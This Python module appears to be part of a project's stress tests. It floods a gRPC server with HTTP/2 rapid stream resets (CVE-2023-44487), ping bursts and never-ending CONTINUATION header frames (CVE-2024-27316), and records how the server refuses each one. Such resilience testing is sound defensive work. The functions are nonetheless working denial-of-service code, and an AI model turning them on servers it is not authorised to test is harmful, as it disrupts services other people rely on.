"""Attacks with HTTP/2 frames that no gRPC client sends: resets, pings, endless headers."""

from __future__ import annotations

import asyncio
from collections.abc import Callable

import hpack
from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.events import ConnectionTerminated, PingAckReceived, ResponseReceived, StreamReset
from h2.exceptions import ProtocolError
from hyperframe.frame import ContinuationFrame, HeadersFrame, SettingsFrame

from tests.stress.flood.connections import PREFACE, connected, until_closed
from tests.stress.flood.tally import Tally, Target, repeat

_CONNECTIONS = 8
_BURST = 100
_MOST_UNSENT_BYTES = 1 << 20

_HEADERS = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", "/ntm.v1.NtmService/Step"),
    (":authority", "flood"),
    ("te", "trailers"),
    ("content-type", "application/grpc"),
]


async def resets(target: Target, tally: Tally) -> None:
    """Begin calls and reset each at once (CVE-2023-44487)."""

    def burst(connection: H2Connection) -> None:
        for _ in range(_BURST):
            stream = connection.get_next_available_stream_id()
            connection.send_headers(stream, _HEADERS)
            connection.reset_stream(stream)
            tally.attempts += 1

    await repeat(_CONNECTIONS, lambda: _bursts(target, tally, burst))


async def pings(target: Target, tally: Tally) -> None:
    """Send pings as fast as they are taken."""

    def burst(connection: H2Connection) -> None:
        for number in range(_BURST):
            connection.ping(number.to_bytes(8, "big"))
            tally.attempts += 1

    await repeat(_CONNECTIONS, lambda: _bursts(target, tally, burst))


async def _bursts(target: Target, tally: Tally, burst: Callable[[H2Connection], None]) -> None:
    """Send bursts over one connection until the server ends it."""
    reader, writer = await connected(target, tally)
    connection = H2Connection(H2Configuration(validate_outbound_headers=False))
    connection.initiate_connection()
    ended = asyncio.create_task(_received(reader, connection, tally))
    try:
        while not ended.done():
            burst(connection)
            writer.write(connection.data_to_send())
            await writer.drain()
            await asyncio.sleep(0)
    except (OSError, ProtocolError):  # the connection has ended, or its stream ids have
        tally.refused["connection closed"] += 1
    finally:
        ended.cancel()
        writer.transport.abort()


async def _received(reader: asyncio.StreamReader, connection: H2Connection, tally: Tally) -> None:
    """Take what the server sends until it ends the connection."""
    while data := await reader.read(65_536):
        for event in connection.receive_data(data):
            if isinstance(event, PingAckReceived | ResponseReceived):
                tally.answered += 1
            elif isinstance(event, StreamReset):
                tally.refused[f"RST_STREAM {event.error_code!r}"] += 1
            elif isinstance(event, ConnectionTerminated):
                tally.refused[f"GOAWAY {event.additional_data or event.error_code!r}"] += 1


async def endless_headers(target: Target, tally: Tally) -> None:
    """Send headers that go on in CONTINUATION frames and never end (CVE-2024-27316)."""
    block = hpack.Encoder().encode(_HEADERS)
    more = hpack.Encoder().encode([(f"x-{number}", "v" * 100) for number in range(100)])

    async def attempt() -> None:
        reader, writer = await connected(target, tally)
        closed = asyncio.create_task(until_closed(reader, tally))
        begin = PREFACE + SettingsFrame(0).serialize() + HeadersFrame(1, block).serialize()
        writer.write(begin)
        try:
            while not closed.done():
                writer.write(ContinuationFrame(1, more).serialize())
                async with asyncio.timeout(5):
                    await writer.drain()
                await asyncio.sleep(0)
        except (OSError, TimeoutError):
            pass
        finally:
            writer.transport.abort()
            await closed

    await repeat(_CONNECTIONS, attempt)
